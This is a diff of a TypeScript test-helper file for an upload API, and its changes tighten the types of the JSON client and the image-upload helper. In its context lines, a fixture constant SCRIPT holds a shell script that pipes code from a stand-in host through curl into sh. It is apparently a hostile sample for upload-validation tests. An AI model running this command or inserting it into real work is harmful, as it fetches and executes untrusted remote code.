@@ -29,17 +29,19 @@ export const PDF = Buffer.from(
 );
 export const SCRIPT = Buffer.from('#!/bin/sh\ncurl -s http://example.invalid/x | sh\n');
 
-type Json = Record<string, unknown>;
+/** A JSON object read without a named shape. */
+export type JsonObject = Record<string, unknown>;
 
-export type Api = (
+/** T is the JSON body the test expects back (as harness.call's), an object of unknown fields unless named. */
+export type Api = <T = JsonObject>(
   method: string,
   path: string,
   body?: unknown,
-) => Promise<{ status: number; json: Json; text: string }>;
+) => Promise<{ status: number; json: T; text: string }>;
 
 /** A JSON client of the API at `base` (…/api/v1) for one bearer token. */
 export function apiClient(base: string, token: string): Api {
-  return async (method, path, body) => {
+  return async <T = JsonObject>(method: string, path: string, body?: unknown) => {
     const headers: Record<string, string> = { authorization: `Bearer ${token}` };
     if (body !== undefined) headers['content-type'] = 'application/json';
     const r = await fetch(base + path, {
@@ -48,11 +50,11 @@ export function apiClient(base: string, token: string): Api {
       body: body === undefined ? undefined : JSON.stringify(body),
     });
     const text = await r.text();
-    let json: Json = {};
+    let json: unknown = {};
     try {
-      json = JSON.parse(text) as Json;
+      json = JSON.parse(text);
     } catch {}
-    return { status: r.status, json, text };
+    return { status: r.status, json: json as T, text };
   };
 }
 
@@ -82,9 +84,9 @@ export async function uploadImage(
   api: Api,
   bytes: Uint8Array,
   contentType = 'image/png',
-  declared: Json = {},
-): Promise<{ fileId: string; upload: number; complete: { status: number; json: Json } }> {
-  const pre = await api('POST', '/uploads', {
+  declared: JsonObject = {},
+): Promise<{ fileId: string; upload: number; complete: { status: number; json: JsonObject } }> {
+  const pre = await api<Ticket>('POST', '/uploads', {
     filename: 'photo',
     contentType,
     size: bytes.length,
@@ -92,7 +94,7 @@ export async function uploadImage(
     ...declared,
   });
   if (pre.status !== 201) throw new Error(`presign: ${pre.status} ${pre.text}`);
-  const t = pre.json as unknown as Ticket;
+  const t = pre.json;
   const up = await postForm(t.url, t.fields, bytes, contentType);
   const complete = await api('POST', `/uploads/${t.fileId}/complete`);
   return { fileId: t.fileId, upload: up.status, complete };
